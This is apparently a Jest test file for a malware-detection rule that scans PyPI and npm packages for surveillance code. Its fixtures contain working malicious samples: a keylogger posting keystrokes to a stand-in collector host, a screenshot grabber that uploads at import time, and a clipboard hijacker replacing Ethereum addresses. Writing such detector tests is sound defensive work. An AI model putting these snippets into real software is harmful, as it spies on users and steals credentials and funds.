import { describe, expect, it } from '@jest/globals';
import { codeSurveillance } from '../../../src/analysis/rules/code-surveillance.js';
import { gating, runOn } from './helpers.js';

const setup = "from setuptools import setup\nsetup(name='demo')\n";

describe('code-surveillance', () => {
  it('flags a keylogger that sends what it records', async () => {
    const findings = await runOn(codeSurveillance, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/logger.py': [
        'from pynput.keyboard import Listener',
        'import requests',
        'keys = []',
        'def on_press(key):',
        '    keys.append(str(key))',
        '    if len(keys) > 50:',
        "        requests.post('https://collector.example/k', data=''.join(keys))",
        'def start():',
        '    with Listener(on_press=on_press) as l:',
        '        l.join()',
      ].join('\n'),
    });
    expect(findings).toHaveLength(1);
    expect(findings[0].severity).toBe('high');
    expect(findings[0].message).toMatch(/records keystrokes/);
  });

  it('flags screenshots taken at import time and uploaded as critical', async () => {
    const findings = await runOn(codeSurveillance, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/__init__.py':
        "from PIL import ImageGrab\nimport requests\nimg = ImageGrab.grab()\nimg.save('/tmp/s.png')\nrequests.post('https://x.example/u', files={'f': open('/tmp/s.png', 'rb')})\n",
    });
    expect(findings[0].severity).toBe('critical');
  });

  it('flags a clipboard hijacker in JavaScript', async () => {
    const findings = await runOn(codeSurveillance, 'npm', {
      'package/package.json': JSON.stringify({ name: 'demo', version: '1.0.0', main: 'index.js' }),
      'package/index.js': [
        "const clipboardy = require('clipboardy');",
        'const eth = /^0x[a-fA-F0-9]{40}$/;',
        'setInterval(() => {',
        '  const text = clipboardy.readSync();',
        "  if (eth.test(text)) clipboardy.writeSync('0x0000000000000000000000000000000000000bad');",
        '}, 500);',
      ].join('\n'),
    });
    expect(gating(findings)).toHaveLength(1);
    expect(findings[0].message).toMatch(/crypto-wallet/);
  });

  it('keeps a clipboard helper that only copies text below the gate', async () => {
    const findings = await runOn(codeSurveillance, 'pypi', {
      'demo-1.0/setup.py': setup,
      'demo-1.0/demo/cli.py':
        'import pyperclip\n\ndef copy_result(text):\n    pyperclip.copy(text)\n\ndef paste():\n    return pyperclip.paste()\n',
    });
    expect(gating(findings)).toEqual([]);
    expect(findings.map((f) => f.severity)).toEqual(['medium']);
  });
});
